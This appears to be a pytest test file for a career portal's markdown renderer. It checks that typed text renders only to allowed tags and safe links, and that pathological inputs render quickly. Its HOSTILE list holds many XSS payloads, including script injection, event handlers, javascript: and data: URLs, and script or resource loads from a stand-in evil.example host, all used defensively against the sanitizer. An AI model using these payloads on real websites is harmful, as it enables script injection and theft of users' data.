"""Nothing a person can type becomes more than harmless text."""

import re
from html.parser import HTMLParser

import nh3
import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from careerportal.markdown import MAX_LENGTH, MAX_LINKS, TAGS, render
from tests.stopwatch import is_within

ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
SAFE_ADDRESS = re.compile(r"(https?:|mailto:|[^:]*$|[^:]*[/?#])", re.IGNORECASE)


class Checker(HTMLParser):
    """Collects what a browser would find in rendered HTML and should not."""

    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.problems.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.problems.append((tag, name))
            if name == "href" and not SAFE_ADDRESS.match(re.sub(r"[\s\x00-\x20]", "", value or "")):
                self.problems.append(value)
        if tag == "a" and dict(attrs).get("rel") != "nofollow ugc noopener noreferrer":
            self.problems.append(("a", attrs))

    def handle_comment(self, data):
        self.problems.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def problems(html):
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.problems


PIECES = st.sampled_from(
    [
        "*",
        "**",
        "_",
        "`",
        "```",
        "~~~",
        "#",
        ">",
        "-",
        "+",
        "1.",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "<",
        ">",
        "<a",
        "<script>",
        "</p>",
        "<!--",
        "-->",
        "&",
        "&lt;",
        "&#x6A;",
        "\\",
        "|",
        "\n",
        "\n\n",
        "\t",
        "javascript:",
        "data:text/html,",
        "vbscript:",
        "http://a.example",
        "mailto:a@b.example",
        "www.a.example",
        "href=",
        "onload=",
        '"',
        "'",
        "😀",
        "\x00",
        "\u202e",
        "\u2028",
        "a",
        "b",
    ]
)
MARKUP = st.lists(PIECES | st.text(max_size=5), max_size=60).map("".join)


@settings(max_examples=300, deadline=None)
@given(MARKUP | st.text(max_size=500))
def test_whatever_is_typed_renders_to_allowed_tags_with_harmless_links(text):
    assert problems(render(text)) == []


@settings(max_examples=200, deadline=None)
@given(MARKUP | st.text(max_size=500))
def test_cleaning_what_was_rendered_changes_nothing(text):
    html = str(render(text))
    again = nh3.clean(
        html,
        tags=TAGS,
        attributes={"a": {"href", "title"}, "ol": {"start"}},
        url_schemes={"http", "https", "mailto"},
        link_rel="nofollow ugc noopener noreferrer",
    )
    assert again == html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=/accounts/logout/><button>Press</button></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=javascript:alert(1)>x</a>",
    "<p style=position:fixed>x</p>",
    "<p id=main class=btn>x</p>",
    "<!-- comment -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](intent://a#Intent;end)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](https://a.example \"onmouseover=alert(1)\")",
    "[x](https://a.example '\" onmouseover=\"alert(1)')",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://tracker.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![\"onerror=alert(1)](x)",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` x onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "javascript:alert(1)",
    "www.a.example/\"onmouseover=alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/?q=\"><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "1000000000. x",
    "# <script>\n## <b onclick=x>\n###### y",
    "\u202e\u2066gnp.exe",
    "\x00<\x00script\x00>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=window.ran=1>",
    "<img srcset=//evil.example/x>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<video src=//evil.example/x autoplay onplay=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=//evil.example/x>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body background=//evil.example/x>",
    "<table background=//evil.example/x><td>x</td></table>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<div onpointerover=alert(1)>x</div>",
    "<xss onmouseover=alert(1)>x</xss>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a target=_blank href=//evil.example>x</a>",
    "<a href=\"&#14; javascript:alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<svg><use href=//evil.example/x#a /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<frameset onload=alert(1)>",
    "<object type=text/html data=//evil.example></object>",
    "<applet code=x></applet>",
    "<portal src=//evil.example onload=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form id=x></form><button form=x formaction=//evil.example>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<a name=cookie><a id=body>clobbered</a>",
    "<link rel=prefetch href=//evil.example/x>",
    "<link rel=preconnect href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p lang=\"x\" dir=rtl class=alert hidden>x</p>",
    "[x](//evil.example 'x' onclick=alert(1))",
    "[x](javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/)",
    "[x](https://a.example/\u0000javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x](https://a.example \"<script>alert(1)</script>\")",
    "![<img src=x onerror=alert(1)>](//evil.example/x)",
    "![x][1]\n\n[1]: //evil.example/x",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<https://a.example/\"onclick=alert(1)>",
    "<mailto:a@b.example?subject=\"><script>alert(1)</script>>",
    "@<script>alert(1)</script>",
    "@member\" onmouseover=alert(1)",
    "\u202ealert(1)\u202c<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n  - <script>alert(1)</script>",
    "1. [x](javascript:alert(1))\n2. <script>alert(1)</script>",
    "{{ request.user.password }}{% load x %}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text):
    html = render(text)
    assert problems(html) == []
    assert not re.search(
        r'href="\s*(javascript|data|vbscript|file|blob|intent):', html, re.IGNORECASE
    )


def fill(piece):
    return (piece * MAX_LENGTH)[:MAX_LENGTH]


PATHOLOGICAL = {
    "open brackets": fill("["),
    "brackets": fill("[") [: MAX_LENGTH // 2] + fill("]")[: MAX_LENGTH // 2],
    "images": fill("!["),
    "links": fill("[a]("),
    "links in angles": fill("[a](<b"),
    "nested links": fill("[a](b")[: MAX_LENGTH // 2] + fill(")")[: MAX_LENGTH // 2],
    "references": fill("[a]: b\n"),
    "reference uses": "[a]: /b\n\n" + fill("[a]")[: MAX_LENGTH - 10],
    "stars": fill("*"),
    "emphasis": fill("*a "),
    "emphasis both ways": fill("*a_ "),
    "emphasis closing": fill("a**b" + "c* "),
    "underscores": fill("__a_"),
    "backticks": fill("`"),
    "backticks of growing length": "".join("e" + "`" * n for n in range(1, 200))[:MAX_LENGTH],
    "quotes": fill(">"),
    "quotes and lists": fill("> - "),
    "lists": "".join("  " * n + "- a\n" for n in range(140))[:MAX_LENGTH],
    "numbers": fill("1. "),
    "angles": fill("<"),
    "open tags": fill("<a "),
    "comments": fill("<!--"),
    "declarations": fill("<!A "),
    "entities": fill("&"),
    "long entities": fill("&amp;"),
    "backslashes": fill("\\"),
    "hashes": fill("# a\n"),
    "rules": fill("- - -\n"),
    "fences": fill("```\n"),
    "tildes": fill("~~~a\n"),
    "table-like": fill("a|b\n-|-\n"),
    "bare links": fill("http://a.b "),
    "bare link, long": "http://" + fill("a.")[: MAX_LENGTH - 7],
    "mail": fill("a@b.co "),
    "at signs": fill("a@"),
    "www": fill("www."),
    "colons": fill("http:"),
    "links without a scheme": fill("//a.b/("),
    "schemes without a name": fill("://a.b?"),
    "links without an end": fill("http://a.b[1."),
    "links in a row": fill("http://a.b"),
    "brackets in links": fill("https://a.b/?q=["),
    "spaces": fill(" ") [:-1] + "a",
    "tabs": fill("\t") [:-1] + "a",
    "line ends": fill("a\n"),
    "nul": fill("\0"),
    "emoji": fill("😀"),
    "mentions": fill("@abc "),
    "mentions in a row": fill("@abc"),
    "definitions without a use": fill("[a]: <b> (c)\n"),
    "unfinished titles": fill('[a](b "c'),
    "links in emphasis": fill("*[a](b)_"),
    "breaks": fill("a  \n"),
    "escaped brackets": fill("\\[\\]"),
    "setext headings": fill("a\n=\n"),
    "quotes of growing depth": "".join(">" * n + " a\n" for n in range(190))[:MAX_LENGTH],
    "angles in links": fill("[a](<"),
    "combining marks": fill("a\u0301"),
}  # fmt: skip


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_the_worst_texts_render_in_under_half_a_second(name):
    text = PATHOLOGICAL[name]
    assert is_within(0.5, lambda: render(text))
    assert problems(render(text)) == []


def test_a_text_that_is_too_long_is_refused_before_rendering():
    assert render("x" * MAX_LENGTH)
    with pytest.raises(ValidationError, match="20,000"):
        render("x" * (MAX_LENGTH + 1))


def test_a_run_of_too_many_bare_links_stays_text():
    links = ["http://a.b/c"] * MAX_LINKS
    assert render(" ".join(links)).count("<a ") == MAX_LINKS
    assert "<a " not in render(" ".join([*links, "http://a.b/c"]))


def test_bare_links_are_found_with_the_signs_that_belong_to_them():
    html = render(
        "See https://a.example/foo_bar?q=1, (http://b.example/x_(y)) and www.c.example.com."
    )
    for address in (
        "https://a.example/foo_bar?q=1",
        "http://b.example/x_(y)",
        "http://www.c.example.com",
    ):
        assert f'href="{address}"' in html


def test_what_people_need_is_there():
    html = render(
        "# One\n\n## Two\n\n**bold** *italic* `code`\n\n> quoted\n\n- a\n- b\n\n3. c\n\n"
        "[named](https://a.example 'Title') and https://b.example\n\n---\n\n```\nblock\n```"
    )
    for piece in (
        "<p><strong>One</strong></p>", "<p><strong>Two</strong></p>", "<strong>bold</strong>", "<em>italic</em>",
        "<code>code</code>", "<blockquote>", "<li>a</li>", '<ol start="3">', "<hr>", "<pre><code>block",
        'href="https://a.example" title="Title"', 'href="https://b.example"',
    ):  # fmt: skip
        assert piece in html
